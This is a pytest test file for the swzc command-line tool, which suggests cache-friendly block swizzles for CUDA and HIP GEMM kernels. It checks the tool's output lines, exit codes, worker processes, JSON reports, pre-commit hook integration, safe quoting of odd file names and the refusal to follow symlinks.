"""`swzc suggest`: one line per kernel the model would rewrite, exit codes, nothing written, and the hook run by
pre-commit itself."""

import io
import json
import os
import re
import shlex
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from support import ROOT, needs_nvcc

from swzc.commands.cli import main

# Rows from blockIdx.y, columns from blockIdx.x, a launch the file fixes: the model alone chooses an order.
GEMM = b"""\
__global__ void gemm(const float* A, const float* B, float* C, int n) {
  const int row = blockIdx.y * 16 + threadIdx.y;
  const int col = blockIdx.x * 16 + threadIdx.x;
  if (row >= n || col >= n) return;
  float acc = 0.0f;
  for (int k = 0; k < n; ++k) acc += A[row * n + k] * B[k * n + col];
  C[row * n + col] = acc;
}

void run(const float* A, const float* B, float* C) {
  gemm<<<dim3(256, 256), dim3(16, 16)>>>(A, B, C, 4096);
}
"""

HIP_GEMM = b"""\
#include <hip/hip_runtime.h>
__global__ void hgemm(const float* A, const float* B, float* C, int n) {
  const int row = hipBlockIdx_y * 16 + hipThreadIdx_y;
  const int col = hipBlockIdx_x * 16 + hipThreadIdx_x;
  if (row >= n || col >= n) return;
  float acc = 0.0f;
  for (int k = 0; k < n; ++k) acc += A[row * n + k] * B[k * n + col];
  C[row * n + col] = acc;
}

void run(const float* A, const float* B, float* C) {
  hipLaunchKernelGGL(hgemm, dim3(256, 256), dim3(16, 16), 0, 0, A, B, C, 4096);
}
"""

NO_BLOCK_INDEX = b"__global__ void scale(float* x, float a, int n) {\n  for (int i = threadIdx.x; i < n; i += blockDim.x) x[i] *= a;\n}\n"

# The GEMM beside a 2D kernel the model declines (no reuse between blocks) and one that reads no block index.
MIXED = GEMM + b"""
__global__ void scale2d(float* C, int n) {
  const int row = blockIdx.y * 16 + threadIdx.y;
  const int col = blockIdx.x * 16 + threadIdx.x;
  C[row * n + col] *= 2.0f;
}

void run_scale(float* C) {
  scale2d<<<dim3(256, 256), dim3(16, 16)>>>(C, 4096);
}
""" + NO_BLOCK_INDEX

SYNTAX_ERROR = b"__global__ void k(float* p) {\n  int x = 1;\n    x @ 2;\n  p[blockIdx.x] = x;\n}\n"

LINE = re.compile(r"^(?P<path>.+):(?P<line>\d+): kernel (?P<kernel>\w+): (?P<swizzle>\S+) predicted L2 hits "
                  r"(?P<hit0>[\d.]+) % -> (?P<hit1>[\d.]+) %, DRAM (?P<dram0>[\d,]+) MB -> (?P<dram1>[\d,]+) MB"
                  r"(?: \(at (?P<swept>.*?)\))?; "
                  r"apply: (?P<apply>.+)$")


def invoke(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def suggestion_lines(stdout):
    return [m for m in map(LINE.match, stdout.splitlines()) if m]


@pytest.fixture
def work(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "gemm.cu").write_bytes(GEMM)
    (tmp_path / "gemm.hip").write_bytes(HIP_GEMM)
    (tmp_path / "scale.cu").write_bytes(NO_BLOCK_INDEX)
    (tmp_path / "mixed.cu").write_bytes(MIXED)
    (tmp_path / "bad.cu").write_bytes(SYNTAX_ERROR)
    return tmp_path


def _script(name: str) -> str | None:
    beside = Path(sys.executable).with_name(name)
    return str(beside) if beside.is_file() else shutil.which(name)


# ---- output and exit codes ---------------------------------------------------------------------------------


def test_gemm_gets_one_line_with_the_models_numbers(work):
    result = invoke("suggest", "gemm.cu")
    assert result.exit_code == 1, result.output
    assert result.stderr == ""
    (line,) = result.stdout.splitlines()
    found = LINE.match(line)
    assert found, line
    assert (found["path"], found["line"], found["kernel"]) == ("gemm.cu", "1", "gemm")
    assert found["apply"] == f"swzc rewrite gemm.cu --swizzle {found['swizzle']} --in-place"
    # the figures are identity's and the chosen order's, as `analyze` ranks them
    analysis = json.loads(invoke("analyze", "gemm.cu", "--json").stdout)["kernels"][0]
    table = {c["name"]: c for c in analysis["candidates"]}
    assert found["swizzle"] == analysis["chosen"]
    for order, hit, dram in (("identity", "hit0", "dram0"), (found["swizzle"], "hit1", "dram1")):
        assert found[hit] == f"{table[order]['predicted_l2_hit_rate']:.1f}"
        assert found[dram] == f"{table[order]['predicted_dram_bytes'] / 1e6:,.0f}"
    assert float(found["hit1"]) > float(found["hit0"])


def test_hip_file_is_read_with_its_spellings(work):
    result = invoke("suggest", "gemm.hip")
    assert result.exit_code == 1, result.output
    (found,) = suggestion_lines(result.stdout)
    assert (found["path"], found["line"], found["kernel"]) == ("gemm.hip", "2", "hgemm")


def test_kernel_without_block_index_gives_no_line(work):
    result = invoke("suggest", "scale.cu")
    assert (result.exit_code, result.stdout, result.stderr) == (0, "", "")


def test_verbose_says_why_the_others_are_left_alone(work):
    quiet = invoke("suggest", "mixed.cu")
    assert [m["kernel"] for m in suggestion_lines(quiet.stdout)] == ["gemm"]
    assert len(quiet.stdout.splitlines()) == 1
    loud = invoke("suggest", "-v", "mixed.cu", "scale.cu")
    assert loud.exit_code == 1
    lines = loud.stdout.splitlines()
    assert lines[0] == quiet.stdout.splitlines()[0]
    assert lines[1].startswith("mixed.cu:14: kernel scale2d: declined: ")
    assert lines[2] == "mixed.cu:23: kernel scale: untouched: does not read the block index"
    assert lines[3] == "scale.cu:1: kernel scale: untouched: does not read the block index"


def test_exit_zero(work):
    result = invoke("suggest", "--exit-zero", "gemm.cu", "scale.cu")
    assert result.exit_code == 0
    assert [m["kernel"] for m in suggestion_lines(result.stdout)] == ["gemm"]


def test_a_bad_file_among_good_ones_is_reported_and_the_others_still_checked(work):
    result = invoke("suggest", "gemm.cu", "missing.cu", "bad.cu", "gemm.hip")
    assert result.exit_code == 2  # bad input wins over suggestions
    assert [m["path"] for m in suggestion_lines(result.stdout)] == ["gemm.cu", "gemm.hip"]
    errors = result.stderr.splitlines()
    assert len(errors) == 2
    assert errors[0].startswith("swzc: error: missing.cu: cannot read")
    assert errors[1].startswith("swzc: error: bad.cu:3:5: syntax error")
    # a file named again inside a folder given is read once, under the name given first
    again = invoke("suggest", "gemm.cu", ".")
    assert [m["path"] for m in suggestion_lines(again.stdout)].count("gemm.cu") == 1
    assert not any(m["path"] == "./gemm.cu" for m in suggestion_lines(again.stdout))
    assert invoke("suggest", "--exit-zero", "gemm.cu", "bad.cu").exit_code == 2  # --exit-zero lifts only 1


def test_files_on_worker_processes_give_the_same_output_in_the_same_order(work):
    """-j N: the FILEs run on N processes of their own; what is printed, the errors and the exit code are those
    of one process, FILE by FILE in the order given."""
    files = ["gemm.cu", "missing.cu", "mixed.cu", "bad.cu", "gemm.hip", "scale.cu"]
    one = invoke("suggest", "-v", *files)
    for jobs in ("2", "4"):
        many = invoke("suggest", "-v", "-j", jobs, *files)
        assert (many.exit_code, many.stdout, many.stderr) == (one.exit_code, one.stdout, one.stderr)
    assert one.exit_code == 2 and [m["path"] for m in suggestion_lines(one.stdout)] == ["gemm.cu", "mixed.cu", "gemm.hip"]
    assert invoke("suggest", "-j", "0", "gemm.cu").exit_code == 2  # at least one


def test_an_interrupt_ends_the_worker_processes_too(work):
    """SIGINT while files run on workers: the run stops at once with 130, and no worker is left behind."""
    import signal
    import time

    for i in range(80):  # about 20 s of work on two workers
        (work / f"g{i}.cu").write_bytes(MIXED)
    script = _script("swzc")
    command = [script] if script else [sys.executable, "-m", "swzc.commands.main"]
    proc = subprocess.Popen([*command, "suggest", "-j", "2", *(f"g{i}.cu" for i in range(80))], cwd=work,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
    time.sleep(3)
    os.killpg(proc.pid, signal.SIGINT)  # as Ctrl-C does: the whole group
    sent = time.monotonic()
    try:
        _, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
    assert proc.returncode == 130 and b"interrupted" in err
    assert time.monotonic() - sent < 5  # the files still queued were not run
    for _ in range(50):  # the workers went with it (multiprocessing's resource tracker leaves once it sees EOF)
        left = subprocess.run(["ps", "-o", "pid=,args=", "-g", str(proc.pid)], capture_output=True, text=True).stdout
        if not left.strip():
            break
        time.sleep(0.1)
    assert not left.strip()


@pytest.mark.parametrize("args", [["--hw", "nope"], ["--set", "N"], ["--grid", "gemm=0"]])
def test_bad_command_line_is_exit_2_before_any_file(work, args):
    result = invoke("suggest", *args, "gemm.cu")
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr.startswith("swzc: error: ")


def test_files_are_required(work):
    assert invoke("suggest").exit_code == 2


def test_grid_applies_to_the_files_that_hold_the_kernel(work):
    result = invoke("suggest", "--grid", "gemm=256,256", "gemm.cu", "scale.cu")
    assert result.exit_code == 1, result.output
    (found,) = suggestion_lines(result.stdout)
    assert "--grid gemm=256,256" in found["apply"]
    # a hook is given only the changed files: a kernel in none of them is no error (-v notes it)
    elsewhere = invoke("suggest", "--grid", "elsewhere=4,4", "gemm.cu", "scale.cu")
    assert (elsewhere.exit_code, elsewhere.stderr) == (1, "")
    assert "elsewhere" in invoke("suggest", "-v", "--grid", "elsewhere=4,4", "scale.cu").stderr


def test_global_verbosity(work):
    assert invoke("-v", "suggest", "scale.cu").stdout == "scale.cu:1: kernel scale: untouched: does not read the block index\n"
    silent = invoke("-qq", "suggest", "gemm.cu", "missing.cu")
    assert (silent.exit_code, silent.stdout) == (2, "")
    assert silent.stderr.startswith("swzc: error: missing.cu: cannot read")


UNRANKED = b"""__global__ void tile(float* out, const float* in, int w) {
  const int x = blockIdx.x * 16 + threadIdx.x, y = blockIdx.y * 16 + threadIdx.y;
  out[x * w + y] = in[y * w + x];
}
"""


@pytest.mark.parametrize("before, after", [((), ()), (("-q",), ()), ((), ("-q",)), (("-qq",), ()), ((), ("-qq",)),
                                           (("-q",), ("-q",)), (("-v",), ()), ((), ("-v",))])
def test_quiet_keeps_the_findings_and_twice_silences_and_either_goes_before_or_after_the_command(work, before, after):
    (work / "unranked.cu").write_bytes(UNRANKED)
    run = invoke(*before, "suggest", *after, "gemm.cu", "unranked.cu")
    quiet = min(2, (before + after).count("-q") + 2 * (before + after).count("-qq"))
    verbose = "-v" in before + after
    assert run.exit_code == 1  # a suggestion, whatever is printed
    assert len(suggestion_lines(run.stdout)) == (0 if quiet == 2 else 1)
    assert ("unranked.cu:1: kernel tile: unranked:" in run.stdout) == verbose
    # the kernels the model cannot rank: one line by default, on stderr, and the hook does not fail for them
    hint = "1 kernel(s) in unranked.cu could not be ranked by the L2 model"
    assert (hint in run.stderr) == (quiet == 0 and not verbose)


@pytest.mark.parametrize("before", [("-j", "2", "--json"), ("--json", "-q", "--hw", "h100", "-j2"), ("--jobs=2", "-v", "--json")])
def test_a_commands_options_may_go_before_its_name(work, before):
    """`swzc -j 2 --json suggest F` is `swzc suggest -j 2 --json F`, as -q and -v may stand on either side."""
    moved = invoke(*before, "suggest", "gemm.cu", "mixed.cu")
    after = [w for w in before if w not in ("-q", "-v")]
    typed = invoke(*[w for w in before if w in ("-q", "-v")], "suggest", *after, "gemm.cu", "mixed.cu")
    assert (moved.exit_code, moved.stdout, moved.stderr) == (typed.exit_code, typed.stdout, typed.stderr)
    assert moved.exit_code == 1 and json.loads(moved.stdout)["hw"] == ("h100" if "h100" in before else "h200")


def test_an_option_the_command_lacks_is_its_error_wherever_it_stands(work):
    run = invoke("-j", "2", "rewrite", "gemm.cu", "-o", "out.cu")
    assert run.exit_code == 2 and "No such option '-j'" in run.stderr and " rewrite --help" in run.stderr
    assert not (work / "out.cu").exists()
    named = invoke("suggest", "--", "-j")  # after --, a FILE named like an option
    assert named.exit_code == 2 and "-j: cannot read" in named.stderr


@pytest.mark.parametrize("before, after", [(("-q", "-v"), ()), (("-q",), ("-v",)), (("-v",), ("-qq",)), ((), ("-v", "-q"))])
def test_quiet_and_verbose_together_are_refused_wherever_they_stand(work, before, after):
    run = invoke(*before, "suggest", *after, "gemm.cu")
    assert run.exit_code == 2 and "-q and -v do not go together" in run.stderr and not run.stdout


def test_the_unranked_hint_does_not_fail_a_hook(work):
    (work / "unranked.cu").write_bytes(UNRANKED)
    run = invoke("suggest", "unranked.cu", "scale.cu")
    assert (run.exit_code, run.stdout) == (0, "") and "could not be ranked" in run.stderr


def test_project_settings_apply_and_the_apply_command_leaves_them_to_rewrite(work):
    (work / ".git").mkdir()  # the search for pyproject.toml stops at the work tree's root
    (work / "pyproject.toml").write_text('[tool.swzc]\nhw = "h100"\n')
    doc = json.loads(invoke("suggest", "--json", "gemm.cu").stdout)
    assert doc["hw"] == "h100"
    assert doc["files"][0]["kernels"][0]["suggestion"]["apply"].startswith("swzc rewrite gemm.cu --swizzle ")
    assert "--hw h200" in invoke("suggest", "--hw", "h200", "gemm.cu").stdout


def test_json(work):
    result = invoke("suggest", "--json", "mixed.cu", "missing.cu")
    assert result.exit_code == 2
    doc = json.loads(result.stdout)
    assert doc["exit_code"] == 2 and doc["hw"] == "h200"
    mixed, missing = doc["files"]
    assert [k["status"] for k in mixed["kernels"]] == ["suggested", "declined", "untouched"]
    suggestion = mixed["kernels"][0]["suggestion"]
    assert suggestion["identity"]["l2_hit_rate"] < suggestion["swizzled"]["l2_hit_rate"]
    assert suggestion["apply"] == f"swzc rewrite mixed.cu --swizzle gemm={suggestion['swizzle']} --in-place"
    assert mixed["kernels"][1]["suggestion"] is None
    assert missing["error"].startswith("missing.cu: cannot read") and missing["exit_code"] == 2


# ---- the apply command does what was suggested, and suggest writes nothing --------------------------------


@pytest.mark.parametrize("name", ["gemm.cu", "mixed.cu", "my kernels.cu"])
def test_the_apply_command_makes_exactly_the_models_rewrite(work, name):
    if name == "my kernels.cu":
        (work / name).write_bytes(GEMM)
    expected = work / "expected.cu"
    assert invoke("rewrite", name, "-o", expected, "--no-compile").exit_code == 0
    (found,) = suggestion_lines(invoke("suggest", name).stdout)
    words = shlex.split(found["apply"])
    assert words[:3] == ["swzc", "rewrite", name]
    # A forced --swizzle SPEC would also rewrite scale2d, which the model declines: mixed.cu's command pins gemm alone.
    assert words[3:5] == ["--swizzle", found["swizzle"] if name != "mixed.cu" else f"gemm={found['swizzle']}"]
    result = invoke(*words[1:], "--no-compile")
    assert result.exit_code == 0, result.output
    assert (work / name).read_bytes() == expected.read_bytes()


TWO_ORDERS = GEMM + b"""
__global__ void tall(const float* A, const float* B, float* C, int n) {
  const int row = blockIdx.y * 8 + threadIdx.y;
  const int col = blockIdx.x * 32 + threadIdx.x;
  float acc = 0.0f;
  for (int k = 0; k < n; ++k) acc += A[row * n + k] * B[k * n + col];
  C[row * n + col] = acc;
}

void run_tall(const float* A, const float* B, float* C) {
  tall<<<dim3(128, 512), dim3(32, 8)>>>(A, B, C, 4096);
}
"""


def test_the_apply_command_names_each_kernels_order_and_rewrite_writes_those(work):
    (work / "two.cu").write_bytes(TWO_ORDERS)
    out = invoke("suggest", "two.cu").stdout
    found = suggestion_lines(out)
    assert len(found) == 2 and found[0]["swizzle"] != found[1]["swizzle"]
    # one command applies both: said once, on a line of its own after them
    assert [m["apply"] for m in found] == ["see below", "see below"]
    last = out.splitlines()[-1]
    assert last.startswith("two.cu: apply all 2: swzc rewrite ") and len(out.splitlines()) == 3
    words = shlex.split(last.partition(": apply all 2: ")[2])
    assert json.loads(invoke("suggest", "--json", "two.cu").stdout)["files"][0]["kernels"][0]["suggestion"]["apply"] == \
        shlex.join(words)  # the JSON keeps the command with each suggestion
    assert words == ["swzc", "rewrite", "two.cu", "--swizzle", f"gemm={found[0]['swizzle']}",
                     "--swizzle", f"tall={found[1]['swizzle']}", "--in-place"]
    # rewrite's own ranking may use the compiler's figures where suggest never compiles: the orders named are the
    # ones suggested, and rewrite writes those
    applied = json.loads(invoke(*words[1:-1], "--no-compile", "--json", "-o", "out.cu").stdout)
    assert [(k["name"], k["status"], k["swizzle"]) for k in applied["kernels"]] == [
        ("gemm", "rewritten", found[0]["swizzle"]), ("tall", "rewritten", found[1]["swizzle"])]


@pytest.mark.parametrize("args, said", [
    (["--swizzle", "nope=grouped:8"], "names kernel(s) nope, which are not in"),
    (["--swizzle", "grouped:8", "--swizzle", "gemm=grouped:8"], "not both"),
    (["--swizzle", "gemm=grouped:8", "--swizzle", "gemm=hilbert:8"], "each kernel once"),
    (["--swizzle", "gemm=sideways:3"], "--swizzle 'sideways:3'"),
])
def test_a_swizzle_for_a_kernel_is_checked(work, args, said):
    result = invoke("rewrite", "mixed.cu", "--no-compile", *args)
    assert result.exit_code == 2 and said in result.stderr, result.output


def test_a_kernel_not_named_is_left_alone(work):
    doc = json.loads(invoke("rewrite", "mixed.cu", "--no-compile", "--json", "--swizzle", "gemm=grouped:8").stdout)
    assert [(k["name"], k["status"]) for k in doc["kernels"]] == [("gemm", "rewritten"), ("scale2d", "untouched"),
                                                                   ("scale", "untouched")]
    assert doc["kernels"][1]["reason"] == "not named by --swizzle KERNEL=SPEC"


def test_the_apply_command_reads_the_file_as_suggest_did(work):
    options = ["--hw", "h100", "--set", "n=4096", "-D", "UNUSED=1"]
    (found,) = suggestion_lines(invoke("suggest", "gemm.cu", *options).stdout)
    assert found["apply"] == f"swzc rewrite gemm.cu {' '.join(options)} --swizzle {found['swizzle']} --in-place"
    default = suggestion_lines(invoke("suggest", "gemm.cu").stdout)[0]
    assert "--hw" not in default["apply"]


def _snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
    return {str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else b"", p.stat().st_mtime_ns)
            for p in sorted(folder.rglob("*"))}


def test_nothing_is_written(work):
    script = _script("swzc")
    if script is None:
        pytest.skip("the swzc console script is not installed")
    before = _snapshot(work)
    run = subprocess.run([script, "suggest", "-v", "gemm.cu", "gemm.hip", "mixed.cu", "scale.cu", "bad.cu"], cwd=work,
                         capture_output=True, text=True, timeout=120)
    assert run.returncode == 2, run.stderr
    assert len(suggestion_lines(run.stdout)) == 3
    assert _snapshot(work) == before


# ---- the pre-commit hook -----------------------------------------------------------------------------------

MANIFEST = ROOT / ".pre-commit-hooks.yaml"
PRE_COMMIT = _script("pre-commit")
needs_pre_commit = pytest.mark.skipif(PRE_COMMIT is None, reason="pre-commit is not installed")

# Every file the hook must see, and one beside them it must not (a kernel in a .cpp file).
USER_FILES = {"src/gemm.cu": GEMM, "src/gemm.hip": HIP_GEMM, "include/scale.cuh": NO_BLOCK_INDEX, "src/host.cpp": GEMM,
              "README.md": b"kernels\n"}


def _git_env(tmp_path: Path) -> dict[str, str]:
    """git without the user's configuration, and pre-commit with a store of its own (pip keeps its usual cache)."""
    return {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull,
            "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
            "GIT_COMMITTER_EMAIL": "t@example.com", "PRE_COMMIT_HOME": str(tmp_path / "pre-commit"),
            "PIP_DISABLE_PIP_VERSION_CHECK": "1"}


def _git_repo(folder: Path, files: dict[str, bytes], env: dict[str, str]) -> Path:
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    subprocess.run(["git", "init", "-q", "."], cwd=folder, check=True, env=env)
    subprocess.run(["git", "add", "-A"], cwd=folder, check=True, env=env)
    subprocess.run(["git", "commit", "-q", "-m", "files"], cwd=folder, check=True, env=env)
    return folder


def _try_repo(hook_repo: Path, user_repo: Path, env: dict[str, str], timeout: int) -> subprocess.CompletedProcess:
    return subprocess.run([PRE_COMMIT, "try-repo", str(hook_repo), "swzc-suggest", "--all-files"], cwd=user_repo, env=env,
                          capture_output=True, text=True, timeout=timeout)


def _check_hook_run(run: subprocess.CompletedProcess) -> None:
    assert run.returncode == 1, run.stdout + run.stderr
    paths = sorted(m["path"] for m in suggestion_lines(run.stdout))
    assert paths == ["src/gemm.cu", "src/gemm.hip"], run.stdout  # .cuh was passed and had nothing; .cpp never passed
    assert "host.cpp" not in run.stdout
    assert "Failed" in run.stdout


def _manifest() -> dict:
    yaml = pytest.importorskip("yaml")  # installed with pre-commit
    (hook,) = yaml.safe_load(MANIFEST.read_text())
    return hook


def test_manifest_filter_selects_cu_cuh_and_hip():
    hook = _manifest()
    assert hook["id"] == "swzc-suggest" and hook["entry"] == "swzc suggest" and hook["language"] == "python"
    assert hook["require_serial"] is True  # one swzc for every file: a header is read with the launches of its includers
    assert hook["verbose"] is True  # a passing run's line on the kernels it could not rank is shown
    pattern = re.compile(hook["files"])
    assert all(pattern.search(p) for p in ("a.cu", "dir/b.cuh", "c.hip"))
    assert not any(pattern.search(p) for p in ("a.cpp", "a.cu.orig", "hip", "a.cuda"))


@needs_pre_commit
def test_hook_under_pre_commit_with_the_installed_swzc(tmp_path):
    """Our manifest as pre-commit reads it (its file filter, how it passes files, exit codes), with the entry
    pointing at the swzc this test runs against, so no environment is built and no network is needed."""
    script = _script("swzc")
    if script is None:
        pytest.skip("the swzc console script is not installed")
    env = _git_env(tmp_path)
    local = {**_manifest(), "entry": f"{shlex.quote(script)} suggest", "language": "system"}
    hook_repo = _git_repo(tmp_path / "hooks", {".pre-commit-hooks.yaml": json.dumps([local]).encode()}, env)  # YAML reads JSON
    user_repo = _git_repo(tmp_path / "user", USER_FILES, env)
    _check_hook_run(_try_repo(hook_repo, user_repo, env, timeout=60))
    # a commit of kernels it cannot rank passes, and says so
    quiet_repo = _git_repo(tmp_path / "quiet", {"kernels/tile.cuh": UNRANKED}, env)
    passed = _try_repo(hook_repo, quiet_repo, env, timeout=60)
    assert passed.returncode == 0 and "Passed" in passed.stdout and "could not be ranked" in passed.stdout, passed.stdout


def _pypi_reachable() -> bool:
    try:
        socket.create_connection(("pypi.org", 443), timeout=3).close()
        return True
    except OSError:
        return False


@needs_pre_commit
def test_hook_installed_by_pre_commit_from_this_repository(tmp_path):
    """The hook exactly as users get it: pre-commit pip-installs swzc from a repository holding this working tree
    (its dependencies come from PyPI, so this needs the network)."""
    if not (ROOT / ".git").exists() or shutil.which("git") is None:
        pytest.skip("the tests do not run from a git checkout of swzc")
    if not _pypi_reachable():
        pytest.skip("PyPI is not reachable: pre-commit cannot install the hook's environment")
    env = _git_env(tmp_path)
    listed = subprocess.run(["git", "ls-files", "-z", "--cached", "--others", "--exclude-standard"], cwd=ROOT,
                            capture_output=True, check=True, env=env).stdout.decode().split("\0")
    tree = {name: (ROOT / name).read_bytes() for name in listed if name and (ROOT / name).is_file()}
    hook_repo = _git_repo(tmp_path / "hooks", tree, env)
    user_repo = _git_repo(tmp_path / "user", USER_FILES, env)
    try:
        _check_hook_run(_try_repo(hook_repo, user_repo, env, timeout=180))
    finally:
        shutil.rmtree(env["PRE_COMMIT_HOME"], ignore_errors=True)  # the hook's environment: hundreds of MB


def test_a_file_named_with_a_newline_prints_one_line_with_the_name_quoted(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    name = "evil\nok'\\x.cu"
    (tmp_path / name).write_bytes(GEMM)
    result = CliRunner().invoke(main, ["suggest", name])
    (line,) = result.stdout.splitlines()
    assert result.exit_code == 1 and line.startswith('"evil\\nok\'\\\\x.cu":')
    command = line.split("apply: ")[1]
    assert command.startswith("swzc rewrite $'evil\\x0aok\\'\\\\x.cu' ")
    assert subprocess.run(["bash", "-c", f"printf '%s' {command.split()[2]}"], capture_output=True, text=True).stdout == name


@pytest.mark.parametrize("env, coloured", [({}, False), ({"FORCE_COLOR": "1"}, True), ({"FORCE_COLOR": "1", "NO_COLOR": "1"}, False)])
def test_colour_only_on_a_terminal_or_when_forced_and_never_with_no_color(work, monkeypatch, env, coloured):
    for name in ("FORCE_COLOR", "NO_COLOR"):
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    (work / "unranked.cu").write_bytes(UNRANKED)
    run = invoke("suggest", "gemm.cu", "unranked.cu", "missing.cu")
    assert ("\x1b[" in run.stdout) == coloured and ("\x1b[" in run.stderr) == coloured
    plain = re.sub(r"\x1b\[[0-9;]*m", "", run.stdout)
    assert len(suggestion_lines(plain)) == 1  # the same line, coloured or not
    assert "\x1b[" not in invoke("suggest", "--json", "gemm.cu").stdout  # a document is never coloured
    summary = invoke("rewrite", "gemm.cu", "-o", "out.cu", "--no-compile")  # rewrite's summary too
    assert ("\x1b[32m" in summary.stdout) == coloured and re.sub(r"\x1b\[[0-9;]*m", "", summary.stdout).count("rewritten with") == 1


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("err_terminal, out_terminal", [(True, False), (False, False), (True, True)])
def test_several_files_show_a_progress_bar_on_a_terminal_only_and_every_result_passes_through(monkeypatch, err_terminal,
                                                                                            out_terminal):
    from swzc.commands.cli import each_file

    err = _Terminal() if err_terminal else io.StringIO()
    monkeypatch.setattr(sys, "stderr", err)
    monkeypatch.setattr(sys, "stdout", _Terminal() if out_terminal else io.StringIO())
    files = ["a.cu", "b.cu", "c.cu"]
    told = []

    def run(done):  # the files end in another order than given: the bar moves as each ends
        told.append(done)
        for index in (2, 0, 1):
            if done is not None:
                done(index)
        return iter([1, 2, 3])

    assert list(each_file(run, files, "suggest")) == [1, 2, 3]
    # on stderr, where stderr is a terminal; where stdout is one too, taken off while each result is printed
    assert ("suggest" in err.getvalue()) == err_terminal and (told[0] is not None) == err_terminal
    assert list(each_file(lambda done: iter([1]), files[:1], "suggest")) == [1]  # one file: no bar


def test_a_folder_is_searched_for_cuda_and_hip_sources(work):
    tree = work / "tree"
    (tree / "sub").mkdir(parents=True)
    (tree / ".hidden").mkdir()
    (tree / "sub" / "gemm.cu").write_bytes(GEMM)
    (tree / "b.hip").write_bytes(HIP_GEMM)
    (tree / "notes.txt").write_text("not a source")
    (tree / ".hidden" / "skipped.cu").write_bytes(GEMM)
    by_folder = invoke("suggest", "tree")
    by_files = invoke("suggest", "tree/b.hip", "tree/sub/gemm.cu")
    assert (by_folder.exit_code, by_folder.stdout) == (by_files.exit_code, by_files.stdout) and by_files.exit_code == 1
    assert len(suggestion_lines(by_folder.stdout)) == 2 and "skipped" not in by_folder.stdout
    (work / "empty").mkdir()
    nothing = invoke("suggest", "empty")
    assert (nothing.exit_code, nothing.stdout) == (0, "") and "no .cu, .cuh or .hip file under empty" in nothing.stderr
    # a link inside the folder is not followed: it may point at a file of the user's, whose text a message quotes
    secret = work / "secret.txt"
    secret.write_text("__global__ void k() { token = hunter2 }\n")
    (tree / "leak.cu").symlink_to(secret)
    outside = work / "outside"
    outside.mkdir()
    (outside / "other.cu").write_text("__global__ void k() { token = hunter2 }\n")
    (tree / "linked").symlink_to(outside, target_is_directory=True)
    leaked = invoke("suggest", "-v", "--json", "tree")
    assert "hunter2" not in leaked.output and "leak.cu" not in leaked.output
    review = invoke("review", "--format", "patch", "tree")
    assert review.exit_code == 1 and "tree/sub/gemm.cu" in review.stdout and "tree/b.hip" in review.stdout


def test_verbose_says_what_the_reasons_may_come_from(work):
    (work / "uses.cu").write_bytes(b'#include "missing.cuh"\n' + GEMM)
    assert 'uses.cu: note: header "missing.cuh"' in invoke("suggest", "-v", "uses.cu").stdout
    assert "note:" not in invoke("suggest", "uses.cu").stdout
    (doc,) = json.loads(invoke("suggest", "--json", "uses.cu").stdout)["files"]
    assert doc["notes"] and doc["notes"][0].startswith('header "missing.cuh"')


def test_json_gives_a_files_syntax_errors_and_the_kernels_they_leave_unread(work):
    doc = json.loads(invoke("suggest", "--json", "bad.cu", "gemm.cu").stdout)
    bad, good = doc["files"]
    assert bad["error"].startswith("bad.cu:3:5") and bad["exit_code"] == 2
    assert bad["syntax_errors"] and bad["syntax_errors"][0]["line"] == 3
    assert [(k["name"], k["status"], k["suggestion"]) for k in bad["kernels"]] == [("k", "refused", None)]
    assert good["syntax_errors"] == [] and good["error"] is None


def test_a_header_several_files_include_is_parsed_twice_per_run_and_again_when_its_bytes_change(work, monkeypatch):
    """The run's files share the parse of a header whose bytes are the same: read for each file, parsed for the
    first two (only a header seen twice is kept).  A header whose bytes differ when the next file reads it is
    parsed anew, and that file sees its own."""
    import pickle

    from swzc.frontend import preprocess
    from swzc.frontend.build_context import HeaderParses

    parsed, reads = [], []
    real_parse, real_read = preprocess.load_bytes, preprocess.read_regular_file
    monkeypatch.setattr(preprocess, "load_bytes", lambda path, data: parsed.append(data) or real_parse(path, data))
    (work / "tile.h").write_text("#define TILE 16\n")
    for name in ("a.cu", "b.cu", "c.cu", "d.cu"):
        (work / name).write_bytes(b'#include "tile.h"\n' + GEMM.replace(b"16", b"TILE"))
    first = invoke("suggest", "--json", "a.cu", "b.cu", "c.cu", "d.cu")
    assert parsed == [b"#define TILE 16\n"] * 2  # four files, two parses
    rates = {f["kernels"][0]["suggestion"]["identity"]["l2_hit_rate"] for f in json.loads(first.stdout)["files"]}
    assert len(rates) == 1

    def read(path, limit):  # the header changes after the first file read it
        reads.append(path)
        data = real_read(path, limit)
        return data.replace(b"16", b"32") if path.endswith("tile.h") and len(reads) > 1 else data

    parsed.clear()
    monkeypatch.setattr(preprocess, "read_regular_file", read)
    second = json.loads(invoke("suggest", "--json", "a.cu", "b.cu").stdout)
    assert parsed == [b"#define TILE 16\n", b"#define TILE 32\n"]
    rates = [f["kernels"][0]["suggestion"]["identity"]["l2_hit_rate"] for f in second["files"]]
    assert rates[0] != rates[1]  # the second file was read with TILE 32
    cache = HeaderParses()
    tile = real_parse("/x/tile.h", b"#define TILE 16\n")
    cache.keep("/x/tile.h", b"#define TILE 16\n", tile)
    assert cache.get("/x/tile.h", b"#define TILE 16\n") is None  # one file included it so far
    cache.keep("/x/tile.h", b"#define TILE 16\n", tile)
    assert cache.get("/x/tile.h", b"#define TILE 16\n") is tile and cache.get("/x/tile.h", b"#define TILE 8\n") is None
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):  # a worker starts with none
        assert pickle.loads(pickle.dumps(cache, protocol)).get("/x/tile.h", b"#define TILE 16\n") is None
